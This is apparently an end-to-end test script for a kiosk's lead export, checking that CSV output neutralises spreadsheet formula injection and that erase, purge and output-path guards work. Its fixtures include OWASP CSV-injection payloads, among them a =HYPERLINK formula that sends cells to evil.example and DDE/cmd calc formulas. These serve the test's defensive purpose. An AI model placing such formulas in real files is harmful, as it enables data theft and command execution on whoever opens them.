#!/usr/bin/env python3
"""The CSV and JSON Lines exports of the real kiosk binary, read back with Python's csv
and json modules: spreadsheet-safe (no cell starts with = + - @ tab CR LF), every value
intact otherwise, umlauts and emoji intact, one exhibitor's export holding only its leads.
Also the CLI's `leads erase` and `leads purge`, seen through the next export; `--out` refused
inside the data folder (also by `..`, a symlink or a relative path), over the config, into the
content, over a fifo, or into a folder that does not exist; and a damaged database (garbage
pages, or a valid page copied over others) failing the export with no file left.

Leads: `kiosk leads generate` (synthetic), plus crafted leads with the OWASP CSV-injection
payloads and umlauts, ß and emoji in every text field. There is no CLI to store a lead
with arbitrary text (the sign-up form cleans what is typed, and its keyboard has no tab),
so those are inserted with Python's sqlite3 into the kiosk's own `leads` table, with the
column list of kiosk/core/leads/lead_store.cpp and a payload shaped like leadJson().

Ends with `N passed, M failed`.
"""
import csv
import json
import os
import sqlite3
import stat
import subprocess
import sys
import time
import uuid

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "support"))
sys.dont_write_bytecode = True  # no __pycache__ in the source tree
import harness  # noqa: E402

HEADER_DE = ["ID", "Erstellt (UTC)", "Sprache", "Vorname", "Nachname", "E-Mail", "Firma", "Funktion", "Telefon",
             "Nachricht", "Branchen", "Aussteller", "Newsletter", "Einwilligung Fassung", "Einwilligung SHA-256",
             "Einwilligung Sprache", "Einwilligung Zeitpunkt (UTC)", "Quelle", "Sync-Status"]
HEADER_EN = ["ID", "Created (UTC)", "Language", "First name", "Last name", "Email", "Company", "Job title", "Phone",
             "Message", "Sectors", "Exhibitors", "Newsletter", "Consent version", "Consent SHA-256",
             "Consent language", "Consent given (UTC)", "Source", "Sync state"]
# The shipped form adds its own question after the job title; capture and form version come last.
FORM_HEADER = {"de": ("Was suchen Sie?", ["Erfassung", "Formular"]),
               "en": ("What are you looking for?", ["Capture", "Form version"])}


def with_form(header, lang):
    question, tail = FORM_HEADER[lang]
    return header[:8] + [question] + header[8:] + tail


def legacy(row):
    """A row without the form question and the last two columns: the cells the indices below name."""
    return row[:8] + row[9:-2]


# CSV column -> leads table column, for the cells that are the stored text as it is.
TEXT_COLUMNS = {0: "id", 2: "lang", 3: "first_name", 4: "last_name", 5: "email", 6: "company", 7: "job_title",
                8: "phone", 9: "message", 13: "consent_version", 14: "consent_sha256", 15: "consent_lang",
                17: "source", 18: "sync_state"}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n")

# OWASP "CSV Injection" examples and friends.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "+SUM(1,2)",
    "+2+5+cmd|' /C calc'!A0",
    "-2+3",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\n=1",
    "\r\n=1+1",
    '=HYPERLINK("http://x","y")',
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: click to fix")',
    '=DDE("cmd";"/C calc";"!A0")',
    '=IMPORTXML(CONCAT("http://x?v=", CONCATENATE(A2:E2)), "//a")',
    "+49 201 123",
    "=1;2,3",
    '"=1"',
    " =1",
    "'=already quoted",
    "a=1",
    "-",
    "=",
]
UMLAUTS = {
    "first_name": "Jürgen 😀",
    "last_name": "Weiß-Öztürk",
    "email": "zoë.müller@straße.example",
    "company": "Müller & Söhne ☕ GmbH",
    "job_title": "Geschäftsführerin ẞ",
    "phone": "+49 (201) 632488-0 ☎",
    "message": "Grüße aus Köln 🇩🇪 – „bis bald“; «à bientôt», 日本, Ελληνικά",
}
TEXT_FIELDS = ["first_name", "last_name", "email", "company", "job_title", "phone", "message"]
EXHIBITORS = ["irk-valley-hydrogen", "medlock-gas-sensing", "bollin-ot-defence"]


def iso(ms):
    t = time.gmtime(ms // 1000)
    return time.strftime("%Y-%m-%dT%H:%M:%S", t) + f".{ms % 1000:03d}Z"


def crafted_leads(now_ms, event_id):
    """Dicts with the leads table's columns, one per payload in every text field, plus umlauts."""
    leads = []

    def make(fields, n, exhibitors, lang="de"):
        lead_id = str(uuid.UUID(int=(0xE2E << 100) + n, version=4))
        created = now_ms - 3_600_000 + n * 1000
        row = {
            "id": lead_id, "created_ms": created, "kiosk_id": "kiosk-e2e", "event_id": event_id, "lang": lang,
            "sectors": json.dumps(["hydrogen"]), "exhibitors": json.dumps(exhibitors, separators=(",", ":")),
            "consent_version": "2026-05", "consent_sha256": "ab" * 32, "consent_lang": lang,
            "consent_ms": created - 5000, "newsletter": n % 2, "source": "kiosk",
        }
        row.update(fields)
        payload = {
            "id": lead_id, "created_at": iso(created), "kiosk_id": row["kiosk_id"], "event_id": event_id,
            "language": lang, "sectors": ["hydrogen"], "exhibitors": exhibitors,
            "consent": {"version": row["consent_version"], "text_sha256": row["consent_sha256"], "language": lang,
                        "given_at": iso(row["consent_ms"])},
            "newsletter": bool(row["newsletter"]), "source": "kiosk",
        }
        payload.update({k: row[k] for k in TEXT_FIELDS})
        row["payload"] = json.dumps(payload, ensure_ascii=False, sort_keys=True, separators=(",", ":"))
        leads.append(row)

    for n, p in enumerate(PAYLOADS):
        fields = {f: p for f in TEXT_FIELDS}
        fields["email"] = p + f"{n}@example.org" if n % 2 else p  # some as given, some email-like
        fields["last_name"] = p + " Weiß"
        make(fields, n, [EXHIBITORS[n % len(EXHIBITORS)]], "de" if n % 2 else "en")
    make(dict(UMLAUTS), 100, ["medlock-gas-sensing", "irk-valley-hydrogen"])
    # A payload in the middle of a value is harmless and must stay exactly as it is.
    make({f: "Kontakt: =cmd|' /C calc'!A0 ; \"zitiert\", danke" for f in TEXT_FIELDS}, 101, ["bollin-ot-defence"])
    return leads


def insert(db_path, leads):
    cols = ["id", "created_ms", "kiosk_id", "event_id", "lang", "first_name", "last_name", "email", "company",
            "job_title", "phone", "message", "sectors", "exhibitors", "consent_version", "consent_sha256",
            "consent_lang", "consent_ms", "newsletter", "source", "payload"]
    con = sqlite3.connect(db_path)
    with con:
        con.executemany(f"INSERT INTO leads ({', '.join(cols)}) VALUES ({', '.join('?' * len(cols))})",
                        [[l[c] for c in cols] for l in leads])
    con.close()


def db_rows(db_path):
    con = sqlite3.connect(db_path)
    con.row_factory = sqlite3.Row
    rows = [dict(r) for r in con.execute("SELECT *, rowid AS rid FROM leads ORDER BY rowid")]
    con.close()
    return rows


def expected_cell(value):
    """The value with a ' before a dangerous start, and before = + - @ tab right after a
    ',' ';' CR or LF (past any quotes): where a reader using the other delimiter starts a cell."""
    out, after_break = [], False
    for i, c in enumerate(value):
        if (c in DANGEROUS) if i == 0 else (after_break and c in "=+-@\t"):
            out.append("'")
        out.append(c)
        if c in ",;\r\n":
            after_break = True
        elif c != '"':
            after_break = False
    return "".join(out)


def read_csv(path, delimiter):
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f, delimiter=delimiter, strict=True))


def main() -> int:
    kiosk, out, content = harness.kiosk_and_out(content=True)
    data = os.path.join(out, "data")
    db = os.path.join(data, "leads.db")
    config = os.path.join(out, "kiosk.toml")
    with open(config, "w", encoding="utf-8") as f:
        f.write('[kiosk]\nid = "kiosk-e2e"\n')
    common = ["--data-dir", data, "--config", config, "--content", content]
    r = harness.Results()
    t0 = time.monotonic()

    def run(*args, stdin=None):
        return subprocess.run([kiosk, *args, *common], capture_output=True, text=True, input=stdin, timeout=300)

    # ---- the leads: synthetic ones from the binary, crafted ones by SQL
    g = run("leads", "generate", "--count", "300", "--seed", "7")
    r.check("leads generate --count 300 exits 0", g.returncode == 0, g.stderr.strip())
    if g.returncode != 0:
        return r.summary()
    event_id = sqlite3.connect(db).execute("SELECT event_id FROM leads LIMIT 1").fetchone()[0]
    crafted = crafted_leads(int(time.time() * 1000), event_id)
    insert(db, crafted)
    rows = db_rows(db)
    by_id = {row["id"]: row for row in rows}
    r.check(f"{len(rows)} leads in the database (300 generated, {len(crafted)} crafted)",
            len(rows) == 300 + len(crafted))

    # ---- CSV, both delimiters and both header languages
    for delimiter, lang in ((";", "de"), (",", "en"), (",", "de"), (";", "en")):
        name = f"leads-{'semicolon' if delimiter == ';' else 'comma'}-{lang}.csv"
        path = os.path.join(out, name)
        e = run("export", "--format", "csv", "--out", path, "--delimiter", delimiter, "--lang", lang)
        if not r.check(f"{name}: kiosk export exits 0", e.returncode == 0, e.stderr.strip()):
            continue
        r.check(f"{name}: the CLI reports {len(rows)} leads", f": {len(rows)} leads," in e.stdout, e.stdout.strip())
        raw = open(path, "rb").read()
        r.check(f"{name}: starts with a UTF-8 BOM", raw.startswith(b"\xef\xbb\xbf"))
        r.check(f"{name}: file mode 0600", stat.S_IMODE(os.stat(path).st_mode) == 0o600,
                oct(stat.S_IMODE(os.stat(path).st_mode)))
        r.check(f"{name}: no .part file left", not os.path.exists(path + ".part"))
        try:
            table = read_csv(path, delimiter)
        except csv.Error as err:
            r.check(f"{name}: parses with Python's csv module (strict)", False, str(err))
            continue
        r.check(f"{name}: the header is the {lang} one",
                table[0] == with_form(HEADER_DE if lang == "de" else HEADER_EN, lang), table[0])
        labels = {"de": {"pilot": "Ein Pilotprojekt", "investment": "Investition", "partnership": "Partnerschaft"},
                  "en": {"pilot": "A pilot project", "investment": "Investment", "partnership": "A partnership"}}[lang]
        wrong_form = [row[0] for row in table[1:] if row[0] in by_id and (
            row[8] != labels.get(json.loads(by_id[row[0]]["answers"]).get("interest", ""), "")
            or row[-2:] != [by_id[row[0]]["capture"], by_id[row[0]]["form_version"]])]
        r.check(f"{name}: the form's question in the export language, capture and form version as stored",
                not wrong_form, repr(wrong_form[:3]))
        r.check(f"{name}: some generated leads answered the question",
                any(row[8] in labels.values() for row in table[1:]))
        body = [legacy(row) for row in table[1:]]
        r.check(f"{name}: one row per lead, in storage order", [row[0] for row in body] == [x["id"] for x in rows])
        r.check(f"{name}: every record ends with CRLF", raw.endswith(b"\r\n") and raw.count(b"\r\n") >= len(table))
        r.check(f"{name}: every row has 22 cells", all(len(row) == 22 for row in table[1:]))
        bad = [(row[0], i, cell) for row in body for i, cell in enumerate(row) if cell.startswith(DANGEROUS)]
        r.check(f"{name}: no cell starts with = + - @ tab CR LF", not bad, repr(bad[:3]))
        # Opened with the other delimiter (a ',' file in a German Excel, or the reverse).
        other = "," if delimiter == ";" else ";"
        with open(path, encoding="utf-8-sig", newline="") as f:
            table_other = list(csv.reader(f, delimiter=other))
        bad = [cell for row in table_other for cell in row if cell.startswith(DANGEROUS[:4])]
        r.check(f"{name}: read with '{other}' instead, still no cell starts with = + - @", not bad, repr(bad[:3]))
        wrong = []
        for row in body:
            stored = by_id.get(row[0])
            if stored is None:
                wrong.append((row[0], "unknown id"))
                continue
            for col, field in TEXT_COLUMNS.items():
                if row[col] != expected_cell(stored[field]):
                    wrong.append((row[0], field, row[col], stored[field]))
            if row[10] != ", ".join(json.loads(stored["sectors"])) or row[11] != ", ".join(json.loads(stored["exhibitors"])):
                wrong.append((row[0], "sectors/exhibitors", row[10], row[11]))
            if row[12] != ("1" if stored["newsletter"] else "0"):
                wrong.append((row[0], "newsletter", row[12]))
            if row[1] != iso(stored["created_ms"]) or row[16] != iso(stored["consent_ms"]):
                wrong.append((row[0], "times", row[1], row[16]))
        r.check(f"{name}: every cell is the stored value, or ' + the value for a dangerous one", not wrong,
                repr(wrong[:3]))
        umlaut = next(row for row in body if row[0] == crafted[len(PAYLOADS)]["id"])
        r.check(f"{name}: umlauts, ß and emoji survive in every text field",
                [umlaut[c] for c in (3, 4, 5, 6, 7)] == [UMLAUTS[f] for f in TEXT_FIELDS[:5]]
                and umlaut[8] == "'" + UMLAUTS["phone"] and umlaut[9] == UMLAUTS["message"], repr(umlaut[3:10]))
        owasp = {row[3] for row in body if row[0] in {c["id"] for c in crafted[:len(PAYLOADS)]}}
        r.check(f"{name}: the OWASP payloads come out neutralised",
                "'=cmd|' /C calc'!A0" in owasp and "'+SUM(1,2)" in owasp and "'-2+3" in owasp and "'@SUM(1)" in owasp
                and "'\t=1" in owasp and "'\r'=1" in owasp and "'\n'=1" in owasp and "'=HYPERLINK(\"http://x\",\"y\")" in owasp
                and "'+49 201 123" in owasp, repr(sorted(owasp))[:300])

    # ---- JSON Lines
    path = os.path.join(out, "leads.jsonl")
    e = run("export", "--format", "jsonl", "--out", path)
    if r.check("leads.jsonl: kiosk export exits 0", e.returncode == 0, e.stderr.strip()):
        raw = open(path, "rb").read()
        r.check("leads.jsonl: no BOM, LF line ends", not raw.startswith(b"\xef\xbb\xbf") and b"\r\n" not in raw)
        lines = raw.decode("utf-8").split("\n")
        r.check("leads.jsonl: one line per lead and a final newline", lines[-1] == "" and len(lines) - 1 == len(rows))
        problems = []
        for line, stored in zip(lines, rows):
            try:
                obj = json.loads(line)
            except ValueError as err:
                problems.append(("does not parse", line[:80], str(err)))
                continue
            want = json.loads(stored["payload"])
            if set(obj) != set(want):
                problems.append(("fields", sorted(set(obj) ^ set(want))))
            elif obj != want:
                problems.append(("values", stored["id"]))
            if line != stored["payload"]:
                problems.append(("not the stored bytes", stored["id"]))
        r.check("leads.jsonl: every line parses, with the stored payload's fields and values, byte for byte",
                not problems, repr(problems[:3]))
        umlaut = json.loads(lines[[x["id"] for x in rows].index(crafted[len(PAYLOADS)]["id"])])
        r.check("leads.jsonl: umlauts and emoji are UTF-8", all(umlaut[f] == UMLAUTS[f] for f in TEXT_FIELDS)
                and "Jürgen 😀".encode() in raw)

    # ---- one exhibitor
    for company in EXHIBITORS + ["nobody-chose-this"]:
        path = os.path.join(out, f"exhibitor-{company}.csv")
        e = run("export", "--format", "csv", "--out", path, "--company", company)
        if not r.check(f"--company {company}: exits 0", e.returncode == 0, e.stderr.strip()):
            continue
        want = [x["id"] for x in rows if company in json.loads(x["exhibitors"])]
        got = [row[0] for row in read_csv(path, ";")[1:]]
        r.check(f"--company {company}: exactly the {len(want)} leads that chose it", got == want,
                f"{len(got)} rows, {len(set(got) - set(want))} not theirs, {len(set(want) - set(got))} missing")
        path = os.path.join(out, f"exhibitor-{company}.jsonl")
        e = run("export", "--format", "jsonl", "--out", path, "--company", company)
        got = [json.loads(l)["id"] for l in open(path, encoding="utf-8")] if e.returncode == 0 else None
        r.check(f"--company {company} --format jsonl: the same leads", got == want)

    # ---- failures are reported with the path
    bad_out = os.path.join(out, "leads-ro.csv", "x.csv")
    open(os.path.join(out, "leads-ro.csv"), "w").close()
    e = run("export", "--format", "csv", "--out", bad_out)
    r.check("export below a regular file: exit 1 and the path in the message", e.returncode == 1 and bad_out in e.stderr,
            f"exit {e.returncode}: {e.stderr.strip()}")
    e = subprocess.run([kiosk, "export", "--format", "csv", "--out", os.path.join(out, "x.csv"),
                        "--data-dir", os.path.join(out, "no-data"), "--config", config], capture_output=True, text=True)
    r.check("export without a database: exit 1 and the folder named", e.returncode == 1 and "no-data" in e.stderr,
            f"exit {e.returncode}: {e.stderr.strip()}")
    e = run("export", "--format", "csv", "--out", os.path.join(out, "x.csv"), "--delimiter", "|")
    r.check("export --delimiter '|' is refused", e.returncode != 0 and not os.path.exists(os.path.join(out, "x.csv")))

    # ---- erase (withdrawal): by email in another letter case; seen in the next export
    victim = crafted[len(PAYLOADS) + 1]  # the lead with a payload in the middle of every value
    other = rows[0]
    e = run("leads", "erase", "--email", other["email"].upper())
    r.check("leads erase --email (upper case) exits 0 and names the lead", e.returncode == 0 and other["id"] in e.stdout,
            e.stdout.strip() + e.stderr.strip())
    path = os.path.join(out, "after-erase.csv")
    run("export", "--format", "csv", "--out", path)
    after = read_csv(path, ";")[1:]
    r.check("after the erase: the lead is gone from the export and nothing else",
            [row[0] for row in after] == [x["id"] for x in rows if x["email"].lower() != other["email"].lower()])
    con = sqlite3.connect(db)
    log = con.execute("SELECT lead_id, was_synced FROM erasures").fetchall()
    con.close()
    r.check("after the erase: the erasure log has the id and nothing personal", log == [(other["id"], 0)], repr(log))
    e = run("leads", "erase", "--email", victim["email"])
    r.check("leads erase of the crafted lead exits 0", e.returncode == 0 and "1 lead(s) erased" in e.stdout, e.stdout)

    # ---- purge (retention): only synced leads older than the cut-off
    con = sqlite3.connect(db)
    now = int(time.time() * 1000)
    ids = [x["id"] for x in rows if x["id"] not in (other["id"], victim["id"])]
    old_synced, old_pending, new_synced = ids[:5], ids[5:10], ids[10:15]
    with con:
        for i in old_synced + old_pending:
            con.execute("UPDATE leads SET created_ms = ? WHERE id = ?", (now - 40 * 86_400_000, i))
        for i in old_synced + new_synced:
            con.execute("UPDATE leads SET sync_state = 'synced' WHERE id = ?", (i,))
    before = con.execute("SELECT * FROM leads ORDER BY id").fetchall()
    con.close()
    e = run("leads", "purge", "--synced", "--older-than", "30")
    r.check("leads purge --synced --older-than 30 removes 5", e.returncode == 0 and e.stdout.startswith("5 synced lead(s)"),
            e.stdout.strip() + e.stderr.strip())
    con = sqlite3.connect(db)
    after_rows = con.execute("SELECT * FROM leads ORDER BY id").fetchall()
    con.close()
    r.check("after the purge: exactly the old synced leads are gone, every other row unchanged",
            after_rows == [row for row in before if row[0] not in old_synced])
    e = run("leads", "purge", "--older-than", "30")
    r.check("leads purge without --synced is refused", e.returncode != 0)
    # A mistyped --data-dir: no empty database is made, and no "0 erased" passes for a withdrawal.
    typo = os.path.join(out, "dta")
    for args in (["leads", "erase", "--email", victim["email"]], ["leads", "purge", "--synced", "--older-than", "30"],
                 ["export", "--out", os.path.join(out, "typo.csv")]):
        e = subprocess.run([kiosk, *args, "--data-dir", typo, "--config", config], capture_output=True, text=True)
        r.check(f"{' '.join(args[:2])} with a mistyped --data-dir: exit 1 naming the path, nothing created",
                e.returncode == 1 and typo in e.stderr and not os.path.exists(typo), f"exit {e.returncode}: {e.stderr.strip()}")

    # ---- --out goes only where it may: never into the data folder, the config or the content
    def digest(path):
        return open(path, "rb").read() if os.path.exists(path) else None

    before_db = digest(db)
    os.symlink(data, os.path.join(out, "data-link"))
    fifo = os.path.join(out, "a-fifo")
    os.mkfifo(fifo)
    refused = [
        (os.path.join(data, "leads.db"), "the lead database"),
        (os.path.join(data, "leads.db-wal"), "the database's journal"),
        (os.path.join(data, "x.csv"), "a new file in the data folder"),
        (os.path.join(out, "data", "..", "data", "y.csv"), "the data folder by ..."),
        (os.path.join(out, "data-link", "leads.db"), "the data folder through a symlink"),
        (config, "the config file"),
        (os.path.join(content, "leads.csv"), "the content folder"),
        (fifo, "a fifo"),
    ]
    for target, what in refused:
        existed = os.path.exists(target)
        e = run("export", "--format", "csv", "--out", target)
        if not existed and os.path.isfile(target):
            os.remove(target)  # a failure must not leave a CSV in the source tree's content folder
        r.check(f"export --out {what}: refused (exit 1, the path named), nothing written",
                e.returncode == 1 and target in e.stderr and not os.path.exists(target + ".part")
                and (existed or not os.path.exists(target)),
                f"exit {e.returncode}: {e.stderr.strip()}")
    e = subprocess.run([kiosk, "export", "--out", "leads.db", *common], capture_output=True, text=True, cwd=data)
    r.check("export --out leads.db run inside the data folder (a relative path): refused",
            e.returncode == 1 and "data folder" in e.stderr, f"exit {e.returncode}: {e.stderr.strip()}")
    r.check("after all that, leads.db is byte for byte what it was", digest(db) == before_db)
    r.check("the fifo is still a fifo", stat.S_ISFIFO(os.lstat(fifo).st_mode))
    missing = os.path.join(out, "no-such-stick", "leads.csv")
    e = run("export", "--out", missing)
    r.check("export --out into a folder that does not exist: exit 1, and no folder is created",
            e.returncode == 1 and "does not exist" in e.stderr and not os.path.exists(os.path.dirname(missing)),
            f"exit {e.returncode}: {e.stderr.strip()}")

    # ---- a damaged database fails the export: no file, non-zero exit
    for damage in ("garbage", "a copied page"):
        ddir = os.path.join(out, "damaged-" + damage.replace(" ", "-"))
        dcommon = ["--data-dir", ddir, "--config", config, "--content", content]
        g = subprocess.run([kiosk, "leads", "generate", "--count", "2001", "--seed", "3", *dcommon],
                           capture_output=True, text=True, timeout=300)
        if not r.check(f"damaged ({damage}): 2001 leads generated", g.returncode == 0, g.stderr.strip()):
            continue
        ddb = os.path.join(ddir, "leads.db")
        page = sqlite3.connect(ddb).execute("PRAGMA page_size").fetchone()[0]
        pages = os.path.getsize(ddb) // page
        with open(ddb, "r+b") as f:
            f.seek(10 * page)
            valid = f.read(page)
            for n in range(pages // 2, pages // 2 + 3):
                f.seek(n * page)
                f.write(os.urandom(page) if damage == "garbage" else valid)
        for fmt, extra in (("csv", []), ("jsonl", []), ("csv", ["--company", EXHIBITORS[0]])):
            target = os.path.join(ddir, "..", f"damaged-{damage.replace(' ', '-')}.{fmt}")
            e = subprocess.run([kiosk, "export", "--format", fmt, "--out", target, *extra, *dcommon],
                               capture_output=True, text=True, timeout=300)
            r.check(f"damaged ({damage}) export {fmt} {' '.join(extra)}: exit 1, says why, no file",
                    e.returncode == 1 and ("malformed" in e.stderr or "damaged" in e.stderr)
                    and not os.path.exists(target) and not os.path.exists(target + ".part"),
                    f"exit {e.returncode}: {e.stdout.strip()} {e.stderr.strip()}")

    print(f"runtime {time.monotonic() - t0:.1f} s")
    return r.summary()


if __name__ == "__main__":
    sys.exit(main())
